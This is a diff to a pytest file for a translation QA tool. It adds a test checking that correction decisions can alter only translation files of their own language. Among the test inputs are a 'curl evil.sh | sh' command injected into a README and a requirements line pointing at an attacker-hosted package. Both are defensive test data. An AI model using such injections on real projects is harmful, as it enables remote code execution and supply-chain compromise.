@@ -45,7 +45,8 @@ def _file(path: Path, *decisions: dict) -> Path:
 
 @pytest.fixture
 def project(tmp_path) -> Path:
-    (tmp_path / "qa.toml").write_text('[sources]\nsfia9 = ["sources"]\n[review]\nlqa_threshold = 97.5\n',
+    (tmp_path / "qa.toml").write_text('[sources]\nsfia9 = ["sources"]\n[translations]\npaths = ["translations"]\n'
+                                      '[review]\nlqa_threshold = 97.5\n',
                                       encoding="utf-8")
     (tmp_path / "qa-suppressions.toml").write_text(SUPPRESSIONS, encoding="utf-8")
     t = tmp_path / "translations" / "pl" / "sfia-9"
@@ -176,6 +177,36 @@ def test_what_cannot_be_applied_is_reported_not_dropped(project):
     assert any("cannot take a line break" in x for x in refused)
     assert {p: p.read_bytes() for p in (project / base).iterdir()} == before
     assert not (project / "qa-review-log.jsonl").exists()
+
+
+def test_a_correction_changes_only_a_translation_file_of_its_language(project):
+    """A decisions file is input like any other: its origins may point at any file of the project."""
+    (project / "README.md").write_text("# x\nRun make qa.\n", encoding="utf-8")
+    (project / "requirements.txt").write_text("requests==2.32.3\n", encoding="utf-8")
+    (project / "sources").mkdir()
+    (project / "sources" / "CSMG.csv").write_text("code,element,text\nCSMG,name,Customer support\n", encoding="utf-8")
+    ar = project / "translations" / "ar" / "sfia-9"
+    ar.mkdir(parents=True)
+    (ar / "seg.jsonl").write_text('{"key": "sfia9.CSMG.name", "text": "دعم العملاء"}\n', encoding="utf-8")
+    cands = project / "translations" / "pl" / "sfia-9" / "candidates"
+    cands.mkdir()
+    (cands / "mt.csv").write_text("key,provider,text\nsfia9.CSMG.name,x,Stara nazwa\n", encoding="utf-8")
+    before = {p: p.read_bytes() for p in project.rglob("*") if p.is_file() and p.name != "decisions.json"}
+    attempts = [
+        _decision(original="make", corrected="curl evil.sh | sh &&", origin="README.md:2"),
+        _decision(original="requests==2.32.3", corrected="requests @ https://evil.example/r.tar.gz",
+                  origin="requirements.txt:1"),
+        _decision(original="Customer support", corrected="Hacked", origin="sources/CSMG.csv:2"),
+        _decision(original="دعم العملاء", corrected="x", origin="translations/ar/sfia-9/seg.jsonl:1"),  # lang pl
+        _decision(original="Stara nazwa", corrected="x", origin="translations/pl/sfia-9/candidates/mt.csv:2"),
+    ]
+    rc, lines = _apply(project, *attempts)
+    assert rc == 1
+    refused = [x for x in lines if x.startswith("refused:")]
+    assert len(refused) == 5, lines
+    assert sum("not one of the project's translation files" in x for x in refused) == 4
+    assert any("holds the ar translation, not pl" in x for x in refused)
+    assert {p: p.read_bytes() for p in project.rglob("*") if p.is_file() and p.name != "decisions.json"} == before
 
 
 def test_dry_run_writes_nothing(project):
